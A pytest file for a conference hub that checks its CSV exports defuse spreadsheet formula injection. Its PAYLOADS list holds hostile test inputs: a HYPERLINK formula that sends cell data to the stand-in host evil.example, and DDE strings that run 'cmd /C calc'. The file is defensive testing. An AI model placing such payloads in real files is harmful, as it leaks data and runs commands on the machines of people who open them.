"""CSV formula injection (issue "Hardening", reproduction 4): every CSV the hub writes.

A site's fault description, technician name or phone becomes a cell in files that
operators open in Excel or LibreOffice. Text a spreadsheet would run as a formula
gets a leading apostrophe; numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import httpx
import pytest

from controlroom.csv_safety import safe_cell
from controlroom.report.offline import write_report
from tests.conftest import DEMO
from tests.support.client import Client
from tests.support.server import running_hub

PAYLOADS = [
    '=HYPERLINK("http://evil.example/x?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
]


def cells(text: str, delimiter: str = ",") -> list[str]:
    rows = csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def assert_defused(text: str, delimiter: str = ",") -> None:
    found = cells(text, delimiter)
    for payload in PAYLOADS:
        assert payload not in found, f"{payload!r} would run as a formula"
    for cell in found:
        assert not cell.lstrip(" ").startswith(("=", "+", "@", "\t", "\r")), cell
        if cell.startswith("-"):
            float(cell.replace(",", "."))  # only a number may start with a minus


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t=1+1"),
        ("  =1+1", "'  =1+1"),
        ("\r@x", "'\r@x"),
        ("-3.5", "-3.5"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("Mất tiếng", "Mất tiếng"),
        (42, 42),
    ],
)
def test_safe_cell(value: object, expected: object) -> None:
    """Formula starts get an apostrophe; numbers and plain text are left alone."""
    assert safe_cell(value) == expected


async def test_faults_and_readiness_csv_and_the_offline_report_are_defused(tmp_path: Path):
    """Faults with formula descriptions, a technician named like one: defused everywhere."""
    async with running_hub(DEMO, tmp_path / "data", heartbeat_s=30) as hub:
        site = await Client.connect(hub.ws_url, await hub.login("site-hue"))
        for payload in PAYLOADS:
            ack = await site.cmd(
                "fault.report", {"category": "audio", "severity": "minor", "description": payload}
            )
            assert ack["type"] == "ack", ack
        ack = await site.cmd("site.checkin", {"technician": PAYLOADS[1], "phone": PAYLOADS[3]})
        assert ack["type"] == "ack", ack
        token = await hub.login("operator")
        async with httpx.AsyncClient(
            base_url=hub.url, headers={"Authorization": f"Bearer {token}"}
        ) as http:
            faults = await http.get("/api/conferences/demo/report?format=csv&table=faults")
            assert faults.status_code == 200
            assert_defused(faults.text)
            assert any(cell == "'" + PAYLOADS[0] for cell in cells(faults.text))
            for lang in ("vi", "en"):
                board = await http.get(f"/api/conferences/demo/readiness?format=csv&lang={lang}")
                assert board.status_code == 200
                delimiter = ";" if lang == "vi" else ","  # Vietnamese Excel's CSV
                assert_defused(board.text, delimiter)
                assert "'" + PAYLOADS[1] in cells(board.text, delimiter)
    out = tmp_path / "out"
    assert write_report(DEMO, tmp_path / "data", out) == 0
    written = sorted((out / "csv").glob("*.csv"))
    assert written
    for path in written:
        assert_defused(path.read_text(encoding="utf-8"))
